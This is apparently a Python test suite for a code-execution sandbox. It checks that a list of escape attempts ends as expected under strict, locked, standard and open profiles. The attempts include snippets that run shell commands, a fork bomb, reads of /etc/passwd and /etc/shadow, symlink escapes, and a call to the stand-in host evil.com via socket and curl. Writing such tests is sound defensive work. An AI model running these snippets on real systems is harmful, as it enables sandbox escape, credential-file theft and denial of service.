# SPDX-License-Identifier: Apache-2.0
"""The reference list of attacks (17 numbered ones, and those of three threat actors) in every profile: what ends them, and what is seen.

Usage: reference_attacks.py BUILD. One row a case: source, and for each profile how it must end: the statuses that
are right, the layer (None: the program ran to its own end), and rules of which one must be listed. `locked` ends them
as `strict` does, unless a row says otherwise."""
import re
import sys

import tapsys

BUILD = sys.argv[1]
tapsys.under_plant(BUILD)
tapsys.enter_empty_network()
tap = tapsys.Tap()
programs = tapsys.Programs(BUILD)

ENDED = "ok|error"
BY_MEMBER = ("blocked", "input", r"py\.import\.os")  # os is there, with its files and no more
OUTSIDE = ("error", None, r"py\.files\.outside")  # a path that is not in /workspace or /tmp
NO_PROCESS = (ENDED, None, r"seccomp\.(clone|fork|vfork|execve)|py\.event\.(os\.(system|fork|posix_spawn)|subprocess)")
NO_NETWORK = (ENDED, None, r"seccomp\.(socket|connect)|py\.event\.socket")
NO_FILE = (ENDED, None, r"py\.event\.open")
NOTHING = "nothing"  # no rule is listed
GUARDED = ("strict", "locked")

CASES = [
    ("1 eval", "eval('__import__(\"os\").system(\"whoami\")')",
     {"strict": ("blocked", "input", r"py\.call\.eval"), "standard": NO_PROCESS, "open": NO_PROCESS}, ""),
    ("2 compile", "compiled = compile('print(\"pwned\")', '<string>', 'exec')\nexec(compiled)\n",
     {"strict": ("blocked", "input", r"py\.call\.(compile|exec)"), "standard": ("ok", None, ""), "open": ("ok", None, "")}, ""),
    ("3 type", "Exploit = type('Exploit', (object,), {\n    '__init__': lambda self: __import__('os').system('whoami')\n})\nExploit()\n",
     {"strict": ("blocked", "input", r"py\.call\.__import__"), "locked": ("blocked", "input", r"py\.call\.type"), "standard": NO_PROCESS, "open": NO_PROCESS}, ""),
    ("4 import os", "import os; os.system('whoami')",
     {"strict": BY_MEMBER, "locked": ("blocked", "input", r"py\.module\.os"), "standard": NO_PROCESS, "open": NO_PROCESS}, ""),
    ("5 __import__", "__import__('socket').socket().connect(('evil.com', 80))",
     {"strict": ("blocked", "input", r"py\.call\.__import__"), "standard": NO_NETWORK, "open": NO_NETWORK}, ""),
    ("6 importlib", "import importlib\nos = importlib.import_module('os')\nos.system('whoami')\n",
     {"strict": ("blocked", "input", r"py\.module\.importlib"), "standard": NO_PROCESS, "open": NO_PROCESS}, ""),
    ("7 endless loop", "print('before', end='')\nwhile True: pass",
     dict.fromkeys(("strict", "standard", "open"), ("timeout", "resources", "")), "before"),
    ("8 memory", "print('before')\ndata = [0] * (10**9)",
     dict.fromkeys(("strict", "standard", "open"), ("memory", "resources", "")), "before"),
    ("9 fork bomb", "import os\nwhile True:\n    os.fork()\n",
     {"strict": BY_MEMBER, "locked": ("blocked", "input", r"py\.module\.os"), "standard": ("error", None, r"seccomp\.clone|py\.event\.os\.fork"),
      "open": ("error", None, r"seccomp\.clone")}, ""),
    ("10 socket", "import socket\ns = socket.socket()\ns.connect(('8.8.8.8', 53))\n",
     {"strict": ("blocked", "input", r"py\.module\.socket"), "standard": ("error", None, NO_NETWORK[2]),
      "open": ("error", None, r"seccomp\.(socket|connect)")}, ""),
    ("11 http", "import urllib.request\nurllib.request.urlopen('http://example.com')\n",
     {"strict": ("blocked", "input", r"py\.(import|module|form)\."), "standard": ("error", None, NO_NETWORK[2]),
      "open": ("error", None, r"seccomp\.(socket|connect)")}, ""),
    ("12 /etc/passwd", "open('/etc/passwd').read()",
     {"strict": OUTSIDE, "locked": ("blocked", "input", r"py\.call\.open"), "standard": NO_FILE, "open": NO_FILE}, ""),
    ("12 contents", "print('secret' if 'root:' in open('/etc/passwd').read() else 'nothing of the host')",
     {"strict": OUTSIDE, "locked": ("blocked", "input", r"py\.call\.open"), "standard": NO_FILE, "open": NO_FILE}, ""),
    ("13 write to /etc", "open('/tmp/../etc/shadow', 'w').write('pwned')",
     {"strict": OUTSIDE, "locked": ("blocked", "input", r"py\.call\.open"), "standard": ("error", None, NO_FILE[2]), "open": ("error", None, NO_FILE[2])}, ""),
    ("14 symlink", "import os\nos.symlink('/etc/passwd', '/tmp/escape')\nopen('/tmp/escape').read()\n",
     {"strict": BY_MEMBER, "locked": ("blocked", "input", r"py\.module\.os"), "standard": NO_FILE, "open": NO_FILE}, ""),
    ("14 by a folder", "import os\nos.symlink('/etc', '/tmp/folder')\nopen('/tmp/folder/passwd').read()\n",
     {"strict": BY_MEMBER, "locked": ("blocked", "input", r"py\.module\.os"), "standard": NO_FILE, "open": NO_FILE}, ""),
    ("a link inside", "import os\nopen('/tmp/a', 'w').close()\nos.symlink('/tmp/a', '/tmp/b')\nopen('/tmp/b').read()\n",
     {"strict": BY_MEMBER, "locked": ("blocked", "input", r"py\.module\.os"), "standard": ("ok", None, NOTHING), "open": ("ok", None, NOTHING)}, ""),
    ("15 descriptor", "class Pwn:\n    def __get__(self, obj, type=None):\n        import os\n        os.system('whoami')\n\n"
     "class Victim:\n    attr = Pwn()\n\nVictim().attr\n",
     {"strict": ("blocked", "input", r"py\.method\.__get__"), "standard": NO_PROCESS, "open": NO_PROCESS}, ""),
    ("16 markup", "print('<script>alert(1)</script>')",
     {"strict": ("ok", None, ""), "standard": ("ok", None, ""), "open": ("ok", None, "")}, ""),
    ("17 binary", "import sys; sys.stdout.buffer.write(b'\\xff\\xfe\\x00\\x01')",
     {"strict": ("ok", None, ""), "locked": ("blocked", "input", r"py\.module\.sys"), "standard": ("ok", None, ""), "open": ("ok", None, "")}, ""),
    ("test_network_blocked", "import socket\ntry:\n    s = socket.socket()\n    s.connect(('8.8.8.8', 53))\n"
     "    print('FAIL: Network accessible')\nexcept Exception as e:\n    print(f'PASS: Network blocked ({e})')\n",
     {"strict": ("blocked", "input", r"py\.module\.socket"), "standard": ("ok", None, NO_NETWORK[2]),
      "open": ("ok", None, r"seccomp\.(socket|connect)")}, "PASS: Network blocked"),
    ("curious agent", "import os\nprint(os.environ)\nopen('/etc/passwd').read()\n",
     {"strict": BY_MEMBER, "locked": ("blocked", "input", r"py\.module\.os"), "standard": NO_FILE, "open": NO_FILE}, ""),
    ("buggy agent: loop", "while True:\n    x = sum(range(10000))\n",
     dict.fromkeys(("strict", "standard", "open"), ("timeout", "resources", "")), ""),
    ("moderate attacker: type", "type('x', (object,), {'__init__': lambda self: os.system('whoami')})()",
     {"strict": ("error", None, r"py\.guard\.type"), "locked": ("blocked", "input", r"py\.call\.type"), "standard": ("error", None, ""), "open": ("error", None, "")}, ""),
    ("moderate attacker: descriptor", "class Exploit:\n    def __get__(self, obj, type=None):\n        import subprocess\n"
     "        subprocess.call(['curl', 'evil.com'])\nclass V:\n    a = Exploit()\nV().a\n",
     {"strict": ("blocked", "input", r"py\.method\.__get__"), "standard": NO_PROCESS, "open": NO_PROCESS}, ""),
]

TEXTS = {"1 eval": "Blocked function: eval", "15 descriptor": "Blocked descriptor method: __get__"}

ENDS_A_SESSION = "timeout|memory"


def as_expected(r, expected, profile):
    statuses, layer, rules = expected.get(profile) or expected["strict"]
    good = r.json is not None and r["status"] in statuses.split("|") and r["layer"] == layer
    return good and (not r.rules() if rules == NOTHING else not rules or any(re.match(rules, rule) for rule in r.rules()))


class Lasting:
    """A session and a branch of it, in which one attack follows the other; made anew when an attack ended them."""

    def __init__(self, who, profile, env):
        self.who, self.profile, self.env, self.ways = who, profile, env, {}

    def make(self):
        for way, words in (("session", ["new", f"{self.profile}-session", "--profile", self.profile]), ("branch", ["fork", f"{self.profile}-session", f"{self.profile}-branch"])):
            r = tapsys.cordon(programs, ["session", *words], self.who, env=self.env)
            if r.code != 0:
                tap.ok(False, f"{self.who}: {self.profile}: a {way} for attacks is made", r.story())
            self.ways[way] = words[-1] if way == "branch" else words[1]

    def close(self):
        for name in self.ways.values():
            tapsys.cordon(programs, ["session", "close", name], self.who, env=self.env)
        self.ways = {}

    def attack(self, name, source, expected):
        """In both, and what is wrong with how each ended."""
        if not self.ways:
            self.make()
        statuses, faults = (expected.get(self.profile) or expected["strict"])[0], []
        options = ["--timeout", f"{300 * tapsys.SLOW}ms"] if "timeout" in statuses else []
        for way, session in self.ways.items():
            r = tapsys.cordon(programs, ["session", "run", session, "--json", *options, "-"], self.who, env=self.env, text=source)
            if not as_expected(r, expected, self.profile):
                faults.append(f"{way}: {r.story()}")
        if statuses in ENDS_A_SESSION.split("|"):
            self.close()
        return faults


def in_sessions(who):
    """The same list in sessions and in branches of them, one attack after the other in the same process."""
    canaries = tapsys.Canaries(programs, who)
    for profile in ("strict", "open") if who == "root" else ("standard", "locked"):
        lasting = Lasting(who, profile, canaries.environment())
        for name, source, expected, _ in (case for case in CASES if case[0] != "buggy agent: loop"):  # as "7 endless loop"
            faults = lasting.attack(name, source, expected)
            tap.ok(not faults, f"{who}: {profile}: {name} ends in a session and in a branch as it ends alone", *faults)
        lasting.close()
    tapsys.cordon(programs, ["pool", "stop", "--force"], who, env=canaries.environment())
    tap.eq(canaries.faults(), [], f"{who}: every canary is as it was before the attacks in sessions")
    canaries.close()


for who in tapsys.users():
    canaries = tapsys.Canaries(programs, who)
    for name, source, expected, printed in CASES:
        for profile in ("strict", "locked", "standard", "open"):
            statuses, layer, rules = expected.get(profile) or expected["strict"]
            options = ["--timeout", f"{tapsys.SLOW}s"] if "timeout" in statuses else []
            r = tapsys.cordon(programs, ["run", "--json", "--profile", profile, *options, "-"], who,
                              env=canaries.environment(), text=source)
            what = f"{who}: {profile}: {name}"
            good = r.json is not None and r["status"] in statuses.split("|") and r["layer"] == layer
            tap.ok(good, f"{what} ends as {statuses}", r.story())
            tap.eq(tapsys.shape_faults(r.json), [], f"{what}: the result has its shape")
            if rules == NOTHING:
                tap.eq(r.rules(), [], f"{what}: nothing is listed", r.story())
            elif rules:
                tap.ok(any(re.match(rules, rule) for rule in r.rules()), f"{what}: seen as {rules}", r.story())
            if printed and r["status"] != "blocked":
                tap.ok(printed in (r["stdout"] or ""), f"{what}: what was printed is there", r.story())
            if name in TEXTS and profile in GUARDED:
                tap.ok(any(v["detail"] == TEXTS[name] and v["line"] for v in r["violations"]), f"{what}: the violation says {TEXTS[name]!r} and the line", r.story())
            if name == "16 markup":
                tap.ok("<script>" in (r["stdout"] or "") and r.rules() == ["output.markup"], f"{what}: markup is data in the result, and is listed as what a browser runs", r.story())
            if name == "17 binary" and profile != "locked":
                tap.ok("Binary output detected" in (r["stdout"] or ""), f"{what}: said, not shown", r.story())
            if name == "12 contents" and profile not in GUARDED:
                tap.ok("nothing of the host" in (r["stdout"] or ""), f"{what}: the jail's own", r.story())
            tap.ok(canaries.word not in r.out + r.err, f"{what}: no canary in it")
    tap.eq(canaries.faults(), [], f"{who}: every canary is as it was")
    canaries.close()
    in_sessions(who)
tap.done()
